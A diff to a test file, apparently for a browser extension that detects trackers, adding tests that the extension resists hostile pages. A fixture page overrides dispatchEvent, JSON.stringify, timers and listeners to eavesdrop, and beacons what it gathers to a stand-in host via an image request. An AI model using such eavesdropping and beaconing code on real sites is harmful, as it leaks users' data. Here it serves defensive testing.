@@ -62,20 +62,45 @@ test('a flood of forged events changes nothing for others, and nothing is believ
   await othersAreSeen('beside-flood.test');
 });
 
-test('a page cannot overhear what the probe says to the collector', async () => {
-  await opened(
+test('a page cannot overhear what the probe says to the collector, nor have it said again', async () => {
+  const { web, until, inside } = telltale;
+  const tab = await opened(
     `const overheard = [];
+     addEventListener('hello', (event) => overheard.push('the nonce ' + event.detail), true);
+     dispatchEvent(new Event('call'));
      const dispatch = EventTarget.prototype.dispatchEvent;
      EventTarget.prototype.dispatchEvent = function (event) { overheard.push(event.type); return dispatch.call(this, event) };
      const stringify = JSON.stringify;
-     JSON.stringify = function (value, ...rest) { if (value && value.calls) overheard.push('report'); return stringify(value, ...rest) };
-     addEventListener('hello', () => overheard.push('hello'), true);
-     addEventListener('call', () => overheard.push('call'), true);
+     JSON.stringify = (value, ...rest) => { if (value && value.calls) overheard.push('a report'); return stringify(value, ...rest) };
      window.fbq = 1;
-     setTimeout(() => { if (overheard.length) throw new Error('overheard ' + overheard) }, 0);`,
+     document.addEventListener('tell', () => { new Image().src = 'http://told.test/p.gif?' + encodeURIComponent(overheard) });`,
     'overhears.test',
   );
   expect(await errorsSeen()).toEqual([]);
+  await until(tab, (view) => expect(found(view)).toContain('meta-pixel'));
+  await inside(async (tabId: number) => {
+    const { chrome } = globalThis as unknown as Inside;
+    const func = () => void document.dispatchEvent(new CustomEvent('tell'));
+    await chrome.scripting.executeScript({ target: { tabId }, func });
+  }, tab);
+  const told = () => web.asked.filter(({ url }) => url.startsWith('http://told.test/')).map(({ url }) => url);
+  await expect.poll(told).toHaveLength(1);
+  // The test's own event is dispatched from a world of its own, past the page's replacement.
+  expect(told()).toEqual(['http://told.test/p.gif?']);
+});
+
+test('timers and listeners that a page replaces are not called by us', async () => {
+  const tab = await opened(
+    `const later = setTimeout.bind(window);
+     window.setTimeout = () => { throw new Error('our timer') };
+     const listen = addEventListener.bind(window);
+     window.addEventListener = () => { throw new Error('our listener') };
+     window.removeEventListener = () => { throw new Error('our listener') };
+     listen('load', () => { window.setTimeout = later });`,
+    'timers.test',
+  );
+  expect(await errorsSeen()).toEqual([]);
+  await telltale.until(tab, (view) => expect(found(view)).toContain('hotjar'));
 });
 
 test('getters that throw are never called', async () => {
